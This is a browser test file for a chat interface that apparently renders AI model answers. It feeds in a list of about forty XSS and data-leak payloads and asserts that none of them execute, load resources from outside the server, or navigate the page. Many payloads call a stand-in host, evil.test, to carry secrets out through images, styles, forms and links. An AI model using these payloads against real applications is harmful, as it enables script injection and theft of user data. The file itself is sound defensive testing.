import { afterAll, afterEach, describe, expect, test } from "vitest";
import { Store } from "../fake/store";
import { answered, lastAnswer, opened, program, quit, send, type Shown } from "./browser";

/** What a model may be brought to write, by a document or by itself. None may run, load, or leave the page. */
const CORPUS = [
  `<script>window.pwned = 1</script>`,
  `<img src=x onerror="window.pwned = 2">`,
  `<svg><script>window.pwned = 3</script></svg>`,
  `<svg onload="window.pwned = 4"></svg>`,
  `<iframe srcdoc="<script>parent.pwned = 5</script>"></iframe>`,
  `<a href="javascript:window.pwned = 6">x</a>`,
  `[x](javascript:window.pwned=7)`,
  `[x](JaVaScRiPt:window.pwned=8)`,
  `[x](&#106;avascript:window.pwned=9)`,
  `[x](data:text/html,<script>opener.pwned=10</script>)`,
  `![x](https://evil.test/?secret=11)`,
  `![x](//evil.test/12)`,
  `![x][13]\n\n[13]: https://evil.test/13`,
  `<link rel="stylesheet" href="https://evil.test/14.css">`,
  `<style>@import url("https://evil.test/15");</style>`,
  `<div style="background: url(https://evil.test/16)">x</div>`,
  `<meta http-equiv="refresh" content="0; url=https://evil.test/17">`,
  `<form action="https://evil.test/18"><button>Go on</button></form>`,
  `<base href="https://evil.test/19">`,
  `<object data="https://evil.test/20"></object><embed src="https://evil.test/21">`,
  `<video poster="https://evil.test/22" src="https://evil.test/23"></video>`,
  '```"><img src=x onerror=window.pwned=24>\ncode\n```',
  "```html\n<script>window.pwned = 25</script>\n```",
  `$\\href{javascript:window.pwned=26}{x}$`,
  `$\\url{https://evil.test/27}$ $\\includegraphics{https://evil.test/28}$`,
  `$\\htmlData{x=1}{y}$ $\\htmlStyle{background: url(https://evil.test/29)}{y}$`,
  `$"><img src=x onerror=window.pwned=30>$`,
  `$\\def\\a{\\a\\a}\\a$`,
  `[click here to go on](https://evil.test/31?q=the+secret)`,
  `<https://evil.test/32>`,
  `https://evil.test/33`,
  `| <img src=x onerror=window.pwned=34> |\n|---|\n| <b onmouseover="window.pwned = 35">x</b> |`,
  `<math><mtext><table><mglyph><style><img src=x onerror="window.pwned = 36">`,
  `<noscript><p title="</noscript><img src=x onerror=window.pwned=37>">`,
  `[1]: https://evil.test/38 "onmouseover=window.pwned=38"\n\n[1]`,
  `<button data-url="javascript:window.pwned = 39">x</button>`,
  `[x](https://user:pass@evil.test:99999999/40)`,
  `<!--><img src=x onerror=window.pwned=41>-->`,
  `<x contenteditable onblur=window.pwned=42>x</x>`,
  `![x](blob:https://evil.test/43) ![x](data:image/svg+xml,<svg onload=window.pwned=44>)`,
];

describe.skipIf(!program())("hostile answers", () => {
  let shown: Shown | undefined;
  afterEach(async () => {
    await shown?.close();
    shown = undefined;
  });
  afterAll(quit);

  test("complaint 14: nothing runs, nothing is loaded, nothing is asked of elsewhere", async () => {
    const store = new Store();
    const chat = store.addChat("Hostile");
    for (const text of CORPUS) {
      const asked = store.addMessage(chat, "user", text);
      asked.content = text;
      const told = store.addMessage(chat, "assistant", text);
      told.reasoning = text;
    }
    shown = await opened(store);
    const { page, asked, errors, server } = shown;
    await page.getByRole("link", { name: "Hostile" }).click();
    await lastAnswer(page).waitFor();
    const scroller = page.getByTestId("scroller");
    // Every row is drawn once it comes near what is seen.
    for (let at = CORPUS.length * 2 - 1; at >= 0; at -= 6) {
      await page.locator(".place").nth(at).scrollIntoViewIfNeeded();
      await page.waitForTimeout(60);
    }
    for (const folded of await page.locator("details summary").all())
      await folded.evaluate((each) => (each as HTMLElement).click());
    await page.waitForTimeout(500);
    expect(await page.evaluate(() => (window as { pwned?: number }).pwned)).toBeUndefined();
    expect(asked.filter((url) => !url.startsWith(server.origin) && !url.startsWith("data:image/"))).toEqual([]);
    expect(
      await scroller.locator("img, iframe, script, style, form, object, embed, video, link, base, a[href]").count(),
    ).toBe(0);
    expect(
      await scroller
        .locator("*")
        .evaluateAll(
          (all) => all.filter((each) => [...each.attributes].some(({ name }) => name.startsWith("on"))).length,
        ),
    ).toBe(0);
    // The content policy had nothing to stop: what would have is not in the page.
    expect(errors.filter((error) => /policy|refused/i.test(error))).toEqual([]);
    expect(page.url()).toContain(server.origin);
  });

  test("a streamed answer is as harmless as a stored one", async () => {
    shown = await opened();
    const { page, asked, server } = shown;
    await send(page, `say: ${CORPUS.slice(0, 24).join("\n\n")}`);
    await answered(page);
    expect(await page.evaluate(() => (window as { pwned?: number }).pwned)).toBeUndefined();
    expect(asked.filter((url) => !url.startsWith(server.origin) && !url.startsWith("data:"))).toEqual([]);
  });

  test("a link shows its whole address before it is opened, and opens only then", async () => {
    shown = await opened();
    const { page } = shown;
    const address = "https://example.org/path?with=everything&in=it";
    await send(page, `say: [a harmless word](${address})`);
    await answered(page);
    const link = lastAnswer(page).getByRole("link", { name: "a harmless word" });
    const pages = page.context().pages().length;
    for (const options of [{}, { modifiers: ["Control" as const] }, { button: "middle" as const }]) {
      await link.click(options);
      expect(page.context().pages()).toHaveLength(pages);
      if (await page.getByRole("heading", { name: "Open this link?" }).isVisible()) {
        await page.getByText(address, { exact: true }).waitFor();
        await page.getByRole("button", { name: "Cancel" }).click();
      }
    }
    await link.click();
    await page.getByRole("heading", { name: "Open this link?" }).waitFor();
    const [tab] = await Promise.all([page.context().waitForEvent("page"), page.getByTestId("confirm").click()]);
    expect(tab.url() === address || tab.url() === "about:blank" || tab.url().startsWith("chrome-error")).toBe(true);
  });

  test("complaint 14: in all of this nothing but the server is asked", async () => {
    shown = await opened();
    const { page, asked, server } = shown;
    await send(page, "say: $x^2$ and\n\n```python\nx = 1\n```\n");
    await answered(page);
    await page.locator(".katex").first().waitFor();
    await page.locator('[data-coloured="true"]').waitFor();
    for (const screen of ["models", "documents", "settings", "server"]) {
      await page.evaluate((to) => (location.hash = to), `#/${screen}`);
      await page.waitForTimeout(200);
    }
    expect(asked.length).toBeGreaterThan(10);
    expect(asked.filter((url) => !url.startsWith(server.origin))).toEqual([]);
  });
});
